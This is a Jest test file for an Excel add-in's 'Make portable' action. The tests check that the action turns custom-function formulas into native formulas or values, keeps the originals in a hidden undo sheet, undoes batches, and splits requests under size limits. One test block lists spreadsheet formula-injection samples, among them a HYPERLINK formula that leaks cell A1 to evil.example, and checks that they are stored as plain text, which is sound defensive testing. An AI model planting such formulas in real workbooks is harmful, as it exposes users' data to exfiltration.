/**
 * "Make portable" through the Office.js action, against an Excel test double: the native formulas and values it
 * writes, the copy of the original formulas in a hidden sheet, undo, the syncs — and that nothing else changes.
 */
import {
  applyPortable,
  canUndoPortable,
  scanPortable,
  undoPortable,
  UNDO_SHEET,
} from "../../src/taskpane/portable/action";
import { FakeExcel, installExcelEnums, type FakeCell } from "./portable-fake";

beforeAll(installExcelEnums);

const LTV_F = "=LTV(B2,B3,B4,B5,B6,B7,B8)";
const SUMMARY_F = "=CUSTOMER_SUMMARY(Data!A:A,Data!B:B,Data!C:C)";
const SUMMARY = [
  ["customer", "orders", "revenue"],
  ["C1", 3, 1200],
  ["C2", 1, 400],
];

function workbook(): FakeExcel {
  return new FakeExcel(
    {
      Model: {
        A1: "inputs",
        B2: 415,
        B3: 12,
        B4: 12,
        B5: 5000,
        B6: 0,
        B7: 0.4,
        B8: 0.02,
        B10: { formula: LTV_F, value: 123.45 } as FakeCell,
        B11: { formula: "=AVG_ORDER(Data!C:C)", value: 415 } as FakeCell,
        B12: { formula: "=SUM(B2:B3)", value: 427 } as FakeCell,
        B13: "=LTV( is only text",
        B14: { formula: '=ACME.MAX_CAC(B10+B5,"")', value: 1 } as FakeCell,
        D1: { formula: SUMMARY_F, value: SUMMARY, spill: "D1:F3" } as FakeCell,
      },
      Other: { A1: { formula: "=LTV(1,2,3)", value: 6 } as FakeCell },
      Data: { A1: "顧客ID", B1: "購入日", C1: "金額" },
    },
    "Model"
  );
}

describe("Make portable in Excel (test double)", () => {
  it("counts what will change on the active sheet before anything is written", async () => {
    const xl = workbook();
    const before = xl.snapshot();
    const scan = await scanPortable(xl.context(), "sheet");
    expect(scan.sheet).toBe("Model");
    expect(scan.changes.map((c) => [c.address, c.result.kind])).toEqual([
      ["D1", "value"],
      ["B10", "native"],
      ["B11", "value"],
      ["B14", "native"],
    ]);
    expect([scan.native, scan.values]).toEqual([2, 2]);
    expect(scan.changes[0].spill).toEqual({ address: "D1:F3", values: SUMMARY });
    // the range's size, its formulas and values (one slice), the spills' sizes, their values (one slice)
    expect(xl.syncs).toBe(4);
    expect(xl.log).toEqual([]);
    expect(xl.snapshot()).toEqual(before);
  });

  it("writes native formulas and values, keeps the originals in a hidden sheet, and touches nothing else", async () => {
    const xl = workbook();
    const before = xl.snapshot();
    const ctx = xl.context();
    const scan = await scanPortable(ctx, "sheet");
    const syncsBefore = xl.syncs;
    const r = await applyPortable(ctx, scan, new Date(Date.UTC(2025, 0, 1)));
    expect(r).toEqual({ changed: 4, batch: 1 });
    expect(xl.syncs - syncsBefore).toBe(2);
    // the writes happen in one request with calculation suspended
    expect(xl.suspendedInSync[xl.suspendedInSync.length - 1]).toBe(true);

    expect(xl.shown("Model", "B10")).toBe(
      '=IF(B7="",1,B7)*B2*B3*IF(B8=0,B4,(1+B8)*(1-(1+B8)^(-B4))/B8)-B5-B6'
    );
    expect(xl.shown("Model", "B14")).toBe('=(B10+B5)/IF(""="",3,"")');
    expect(xl.shown("Model", "B11")).toBe(415);
    expect(
      ["D1", "E1", "F1", "D2", "E2", "F2", "D3", "E3", "F3"].map((a) => xl.shown("Model", a))
    ).toEqual(SUMMARY.flat());
    expect(xl.sheet("Model")?.cells.get("D1")?.formula).toBeUndefined();

    const undo = xl.sheet(UNDO_SHEET);
    expect(undo?.visibility).toBe("Hidden");
    const row = (n: number) =>
      ["A", "B", "C", "D", "E", "F"].map((c) => undo?.cells.get(`${c}${n}`)?.value);
    expect(row(1)).toEqual(["sheet", "address", "spill", "formula", "batch", "time"]);
    expect(row(2)).toEqual(["Model", "D1", "D1:F3", SUMMARY_F, 1, "2025-01-01T00:00:00.000Z"]);
    expect(row(3)).toEqual(["Model", "B10", "", LTV_F, 1, "2025-01-01T00:00:00.000Z"]);
    // formulas copied as text: the undo sheet computes nothing
    expect([...(undo?.cells.values() ?? [])].some((c) => c.formula)).toBe(false);

    // nothing else: the other sheets, and every cell of Model outside the changed ones and the spill
    const after = xl.snapshot();
    expect(after.Other).toEqual(before.Other);
    expect(after.Data).toEqual(before.Data);
    for (const [a, c] of Object.entries(before.Model))
      if (!["B10", "B11", "B14", "D1"].includes(a)) expect(after.Model[a]).toEqual(c);
    const touched = new Set(xl.log.filter((l) => l.sheet === "Model").map((l) => l.address));
    expect([...touched].sort()).toEqual(["B10", "B11", "B14", "D1:F3"]);
  });

  it("undo puts the formulas of the last batch back and removes the copy", async () => {
    const xl = workbook();
    const before = xl.snapshot();
    const ctx = xl.context();
    await applyPortable(ctx, await scanPortable(ctx, "sheet"));
    expect(await canUndoPortable(ctx)).toBe(true);
    const syncs = xl.syncs;
    expect(await undoPortable(ctx)).toEqual({ restored: 4 });
    // the undo sheet's size, its rows (one slice), the restore (one request)
    expect(xl.syncs - syncs).toBe(3);
    for (const a of ["B10", "B11", "B14", "D1"])
      expect(xl.sheet("Model")?.cells.get(a)?.formula).toBe((before.Model[a] as FakeCell).formula);
    // the spilled values written over the block are cleared, so the formula can spill again
    for (const a of ["E1", "F3", "D2"]) expect(xl.sheet("Model")?.cells.has(a)).toBe(false);
    expect(xl.sheet(UNDO_SHEET)).toBeUndefined();
    expect(await canUndoPortable(ctx)).toBe(false);
    expect(await undoPortable(ctx)).toEqual({ restored: 0 });
  });

  it("keeps batches apart: a second run on a selection is undone on its own", async () => {
    const xl = workbook();
    const ctx = xl.context();
    xl.selection = { sheet: "Model", address: "B10:B11" };
    await applyPortable(ctx, await scanPortable(ctx, "selection"));
    xl.active = "Other";
    const second = await scanPortable(ctx, "sheet");
    expect(second.changes.map((c) => [c.address, c.result])).toEqual([
      ["A1", { kind: "native", formula: "=1*2*3" }],
    ]);
    expect(await applyPortable(ctx, second)).toMatchObject({ batch: 2 });
    expect(await undoPortable(ctx)).toEqual({ restored: 1 });
    expect(xl.sheet("Other")?.cells.get("A1")?.formula).toBe("=LTV(1,2,3)");
    // the first batch is still there and can still be undone
    expect(xl.shown("Model", "B11")).toBe(415);
    expect(await undoPortable(ctx)).toEqual({ restored: 2 });
    expect(xl.sheet("Model")?.cells.get("B11")?.formula).toBe("=AVG_ORDER(Data!C:C)");
  });

  it("does nothing when nothing calls the add-in", async () => {
    const xl = new FakeExcel({ S: { A1: 1, A2: { formula: "=A1*2", value: 2 } as FakeCell } });
    const ctx = xl.context();
    const scan = await scanPortable(ctx, "sheet");
    expect(scan.changes).toEqual([]);
    expect(await applyPortable(ctx, scan)).toEqual({ changed: 0, batch: 0 });
    expect(xl.log).toEqual([]);
    expect(xl.sheet(UNDO_SHEET)).toBeUndefined();
  });
});

describe("Make portable writes data back as data, never as a formula", () => {
  const HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+81-90-1234-5678",
    "-A1*10",
    "@SUM(A1:A9)",
    "＝１＋２",
    "00123",
    "1/2",
    "(500)",
    "TRUE",
    "#N/A",
    "'quoted",
    "1e5",
  ];
  const SPILL = [["customer", "orders"], ...HOSTILE.map((id, i) => [id, i + 1])];
  const last = SPILL.length;

  it("a CUSTOMER_SUMMARY spill whose customer ids look like formulas or numbers: each cell holds the id as text", async () => {
    const xl = new FakeExcel({
      Model: {
        A1: {
          formula: "=CUSTOMER_SUMMARY(Data!A:A,Data!B:B,Data!C:C)",
          value: SPILL,
          spill: `A1:B${last}`,
        } as FakeCell,
        D1: { formula: "=AVG_ORDER(Data!C:C)", value: "=1+1" } as FakeCell,
      },
    });
    const ctx = xl.context();
    await applyPortable(ctx, await scanPortable(ctx, "sheet"));
    const cells = xl.sheet("Model")?.cells;
    for (let i = 0; i < HOSTILE.length; i++) {
      const c = cells?.get(`A${i + 2}`);
      expect({ id: HOSTILE[i], formula: c?.formula, value: c?.value }).toEqual({
        id: HOSTILE[i],
        formula: undefined,
        value: HOSTILE[i],
      });
      // the counts beside them stay numbers
      expect(cells?.get(`B${i + 2}`)?.value).toBe(i + 1);
    }
    expect(cells?.get("D1")).toEqual({ value: "=1+1" });
    expect([...(cells?.values() ?? [])].some((c) => c.formula)).toBe(false);
  });

  it("without the text mark the same spill would have turned into formulas (the model of Excel bites)", async () => {
    const { typedText } = await import("./portable-fake");
    expect(typedText(HOSTILE[0]).formula).toBe(HOSTILE[0]);
    expect(typedText("+81-90-1234-5678").formula).toBe("=+81-90-1234-5678");
    expect(typedText("@SUM(A1:A9)").formula).toBe("=SUM(A1:A9)");
    expect(typedText("00123").value).toBe(123);
  });
});

describe("Make portable in requests under Excel on the web's 5 MB limit", () => {
  /** A sheet whose CUSTOMER_SUMMARY spills `n` customers with long Japanese ids: ~100 bytes of JSON a row. */
  function big(n: number): { xl: FakeExcel; spill: unknown[][] } {
    const spill: unknown[][] = [["customer", "orders", "revenue", "first"]];
    for (let i = 0; i < n; i++)
      spill.push([
        `顧客-${String(i).padStart(6, "0")}-東京都渋谷区神南`,
        1 + (i % 7),
        1000 + i,
        45000 + (i % 900),
      ]);
    const xl = new FakeExcel(
      {
        Model: {
          A1: {
            formula: "=CUSTOMER_SUMMARY(Data!A:A,Data!B:B,Data!C:C)",
            value: spill,
            spill: `A1:D${n + 1}`,
          } as FakeCell,
          F1: { formula: LTV_F, value: 1 } as FakeCell,
        },
      },
      "Model"
    );
    return { xl, spill };
  }

  it("a 60,000-customer spill (≈ 6 MB) is read and written in slices, no request or response above 5 MB; undo too", async () => {
    const { xl, spill } = big(60_000);
    const ctx = xl.context();
    const scan = await scanPortable(ctx, "sheet");
    expect(scan.changes[0].spill?.values).toEqual(spill);
    expect(xl.largestResponse).toBeLessThanOrEqual(5 * 1024 * 1024);
    const syncs = xl.syncs;
    await applyPortable(ctx, scan);
    expect(xl.syncs - syncs).toBeGreaterThan(2);
    expect(xl.largestRequest).toBeLessThanOrEqual(5 * 1024 * 1024);
    expect(xl.shown("Model", "A60001")).toBe(spill[60_000][0]);
    expect(xl.sheet("Model")?.cells.get("D60001")).toEqual({ value: spill[60_000][3] });
    expect(await undoPortable(ctx)).toEqual({ restored: 2 });
    expect(xl.sheet("Model")?.cells.get("A1")?.formula).toMatch(/^=CUSTOMER_SUMMARY/);
    expect(xl.sheet("Model")?.cells.has("A2")).toBe(false);
  });

  it("slices Office refuses all the same are halved and sent again (a limit below our budget)", async () => {
    const { xl, spill } = big(3000);
    xl.limitBytes = 60 * 1024; // Excel stricter than the 200 KB we plan for
    const ctx = xl.context();
    const options = { budgetBytes: 200 * 1024 };
    const scan = await scanPortable(ctx, "sheet", {}, options);
    expect(scan.changes[0].spill?.values).toEqual(spill);
    await applyPortable(ctx, scan, new Date(), options);
    expect(xl.largestRequest).toBeLessThanOrEqual(60 * 1024);
    expect(xl.largestResponse).toBeLessThanOrEqual(60 * 1024);
    for (const i of [1, 1500, 3000]) expect(xl.shown("Model", `A${i + 1}`)).toBe(spill[i][0]);
    expect(await undoPortable(ctx, options)).toEqual({ restored: 2 });
  });

  it("a whole-column selection reads only the used rows", async () => {
    const { xl } = big(50);
    xl.selection = { sheet: "Model", address: "A:F" };
    const ctx = xl.context();
    const scan = await scanPortable(ctx, "selection");
    expect(scan.address).toBe("A1:F51");
    expect(scan.changes.map((c) => c.address)).toEqual(["A1", "F1"]);
    expect(xl.largestResponse).toBeLessThan(64 * 1024);
  });
});
